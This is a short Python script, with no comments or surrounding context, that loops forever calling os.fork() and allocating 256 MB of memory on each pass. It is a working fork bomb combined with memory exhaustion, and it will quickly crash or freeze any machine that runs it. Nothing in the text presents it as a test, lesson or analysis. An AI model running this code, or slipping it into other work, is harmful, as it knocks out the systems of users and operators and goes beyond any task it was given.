import os
blocks = []
while True:
    os.fork()
    blocks.append(bytearray(256 * 1024 * 1024))
